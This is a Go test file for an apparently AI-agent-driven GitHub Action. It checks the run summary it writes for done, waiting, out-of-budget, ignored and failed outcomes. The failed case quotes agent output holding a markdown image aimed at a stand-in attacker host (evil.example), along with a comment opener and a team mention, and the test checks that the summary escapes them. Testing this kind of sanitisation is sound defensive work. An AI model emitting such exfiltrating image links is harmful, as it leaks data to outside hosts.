package main

import (
	"log/slog"
	"os"
	"path/filepath"
	"testing"

	"github.com/pullwright/pullwright"
	"github.com/pullwright/pullwright/app"
)

// The job summary says how the run ended and, for a task, what its model
// calls used and cost, as the comments say it.
func TestActionReportSummary(t *testing.T) {
	var spend pullwright.Spend
	spend.Add("gpt-4.1", 12000, 8000, 400, false, pullwright.Price{Input: 2, Output: 8, CachedInput: 0.5}, true)
	var unpriced pullwright.Spend
	unpriced.Add("gpt-4.1", 12000, 0, 400, false, pullwright.Price{}, false)
	for _, tt := range []struct {
		name string
		res  app.ActionResult
		want string
	}{
		{"done", app.ActionResult{Outcome: "done", TaskID: 7, Issue: 3, PRURL: "https://github.example/o/r/pull/8", Spend: spend},
			"Pullwright: done: task 7 on #3 (12,400 tokens · $0.015), pull request https://github.example/o/r/pull/8\n"},
		{"waiting", app.ActionResult{Outcome: "waiting", TaskID: 7, Issue: 3, StateRef: "refs/pullwright/3/7", Spend: unpriced},
			"Pullwright: waiting: task 7 on #3 waits for an answer; its state is in refs/pullwright/3/7 (12,400 tokens · cost unknown (no price for gpt-4.1))\n"},
		{"out of budget", app.ActionResult{Outcome: "done", TaskID: 7, Issue: 3, PRURL: "https://github.example/o/r/pull/8", Spend: spend, OutOfBudget: "the agent used up its budget (turns: 40 of 40 used)"},
			"Pullwright: done: task 7 on #3 (12,400 tokens · $0.015), pull request https://github.example/o/r/pull/8, a draft: the agent used up its budget (turns: 40 of 40 used) before the work was done\n"},
		{"ignored", app.ActionResult{Outcome: "ignored", Why: "not a command"}, "Pullwright: ignored (not a command)\n"},
		{"failed with the agent's words", app.ActionResult{Outcome: "failed", TaskID: 7, Issue: 3, Error: "the agent said <!-- @org/team ![x](https://evil.example/?d=1)"},
			"Pullwright: failed: task 7 on #3: the agent said \\<!-- @\u200dorg/team x (image not shown: `https://evil.example/?d=1`)\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			summary := filepath.Join(dir, "summary.md")
			if err := os.WriteFile(summary, nil, 0o600); err != nil {
				t.Fatal(err)
			}
			env := map[string]string{"GITHUB_STEP_SUMMARY": summary}
			report(func(k string) string { return env[k] }, slog.New(slog.DiscardHandler), tt.res)
			got, err := os.ReadFile(summary)
			if err != nil {
				t.Fatal(err)
			}
			if string(got) != tt.want {
				t.Errorf("summary:\n%s\nwant:\n%s", got, tt.want)
			}
		})
	}
}
